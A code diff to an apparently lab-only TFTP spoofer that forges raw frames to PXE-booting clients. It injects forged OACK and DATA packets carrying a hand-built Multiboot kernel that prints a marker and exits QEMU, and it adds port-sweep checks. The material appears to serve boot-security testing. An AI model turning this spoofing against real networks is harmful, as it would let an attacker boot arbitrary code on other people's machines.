@@ -21,8 +21,10 @@ built by hand on an AF_PACKET socket, from its own MAC to each client's:
 
   * "burst": a TFTP OACK (tsize FORGED_TSIZE, blksize FORGED_BLKSIZE) and
     right behind it, from the same source port, DATA 1 and DATA 2 holding
-    that many attacker bytes (the whole forged file, ending with its short
-    block), so a client that takes the OACK then reads the forged file;
+    the whole forged file (ending with its short block), so a client that
+    takes the OACK then reads it: forged_kernel(), a Multiboot kernel of
+    its own that prints MARKER on COM1 and ends QEMU (isa-debug-exit), so
+    a client that boots it shows it;
   * "error": ERROR 1 "File not found";
   * "data": one DATA block k (1..8) of 1408 bytes (the block size mboot
     asks for) of attacker bytes, aimed at a transfer in progress;
@@ -82,6 +84,7 @@ FORGED_TSIZE = 700              # the forged file: 512 + 188 bytes
 FORGED_BLKSIZE = 512
 MBOOT_BLKSIZE = 1408            # what mboot asks for (data-phase blocks)
 ATTACKER_BYTES = b"FORGED by the netlab spoofer. "
+MARKER = "FORGED KERNEL RAN"       # what the forged kernel prints
 WITNESS_TABLE = "netlab_spoofwitness"
 VETH_LAB, VETH_ATK = "spoof0", "atk0"
 
@@ -122,6 +125,11 @@ class Spoofer:
                 <= 65535:
             raise SpooferError("spoofer: dense share %r or sweep %r out of "
                                "range" % (dense_share, sweep))
+        if not sweep_ports(sweep, dense_share):
+            raise SpooferError("spoofer: no port to sweep in %d-%d (PXELINUX's "
+                               "%d-%d and, with a dense share, %d-%d are "
+                               "left out)" % (sweep + PXELINUX_PORTS + (
+                                   DENSE_BASE, DENSE_BASE + DENSE_PORTS - 1)))
         self.dense_share = dense_share
         self.sweep = sweep
         self.workdir = workdir
@@ -239,6 +247,9 @@ class Spoofer:
                 out = json.load(f)
         except (OSError, ValueError):
             out = {"sent": {}, "targets": [], "error": "no stats file"}
+        if self.proc and self.proc.poll() not in (None, 0):
+            out["error"] = "worker exited with status %d: %s" % (
+                self.proc.returncode, _tail(self.logfile + ".stderr", 2))
         out["witness"] = self._witness_counts()
         out["went"] = self.went
         return out
@@ -306,6 +317,33 @@ def _fold(s):
     return ~s & 0xffff
 
 
+def forged_kernel():
+    """The forged file: FORGED_TSIZE bytes, a Multiboot 1 kernel loaded
+    whole at 1 MiB through the header's address fields (flag 16; no ELF),
+    whose code writes MARKER to COM1 and then 0x31 to port 0xf4 (QEMU's
+    isa-debug-exit, as the lab's clients have), padded with ATTACKER_BYTES.
+    """
+    base, magic, flags = 0x100000, 0x1BADB002, 0x00010000
+    code_at = 32
+    msg_at = code_at + 24
+    header = struct.pack("<8I", magic, flags, (-(magic + flags)) & 0xffffffff,
+                         base, base, 0, 0, base + code_at)
+    code = (b"\xbe" + struct.pack("<I", base + msg_at) +  # mov esi, msg
+            b"\x66\xba\xf8\x03"     # mov dx, 0x3f8
+            b"\xac"                 # 1: lodsb
+            b"\x84\xc0"             # test al, al
+            b"\x74\x03"             # jz 2f
+            b"\xee"                 # out dx, al
+            b"\xeb\xf8"             # jmp 1b
+            b"\xb0\x31"             # 2: mov al, 0x31
+            b"\xe6\xf4"             # out 0xf4, al
+            b"\xf4\xeb\xfd")        # hlt; jmp hlt
+    assert len(header) == code_at and len(code) == msg_at - code_at
+    body = header + code + b"\r\n" + MARKER.encode() + b"\r\n\0"
+    pad = ATTACKER_BYTES * (FORGED_TSIZE // len(ATTACKER_BYTES) + 1)
+    return (body + pad)[:FORGED_TSIZE]
+
+
 class Forger:
     """Builds the forged frames; the payloads' sums are computed once, so a
     frame costs its headers only."""
@@ -318,8 +356,8 @@ class Forger:
                 % (FORGED_TSIZE, FORGED_BLKSIZE))
         self.payloads = {
             "oack": oack,
-            "data1": b"\0\x03\0\x01" + filler[:FORGED_BLKSIZE],
-            "data2": b"\0\x03\0\x02" + filler[:FORGED_TSIZE - FORGED_BLKSIZE],
+            "data1": b"\0\x03\0\x01" + forged_kernel()[:FORGED_BLKSIZE],
+            "data2": b"\0\x03\0\x02" + forged_kernel()[FORGED_BLKSIZE:],
             "error": b"\0\x05\0\x01File not found\0"}
         for k in range(1, 9):
             self.payloads["blk%d" % k] = struct.pack("!HH", 3, k) + \
@@ -379,6 +417,16 @@ def learn(frame, net, skip):
     return mac, ip
 
 
+def sweep_ports(sweep, dense_share):
+    """The ports of range @sweep (lo, hi) the sweep covers: not PXELINUX's,
+    nor, when the dense ports get a share (@dense_share > 0), those."""
+    lo, hi = PXELINUX_PORTS
+    return [p for p in range(sweep[0], sweep[1] + 1)
+            if not lo <= p <= hi and not (
+                dense_share > 0 and
+                DENSE_BASE <= p < DENSE_BASE + DENSE_PORTS)]
+
+
 class Plan:
     """Which packet goes where next: the dense ports get DENSE_SHARE of
     the packets, the sweep the rest; kinds, sources and source ports drawn
@@ -398,10 +446,7 @@ class Plan:
     def add(self, mac, ip):
         """A new client to attack."""
         self.targets.append((mac, ip))
-        lo, hi = PXELINUX_PORTS
-        ports = [p for p in range(self.sweep[0], self.sweep[1] + 1)
-                 if not lo <= p <= hi and
-                 not DENSE_BASE <= p < DENSE_BASE + DENSE_PORTS]
+        ports = sweep_ports(self.sweep, self.dense_share)
         self.rnd.shuffle(ports)
         self.sweeps[ip] = [ports, 0]
 
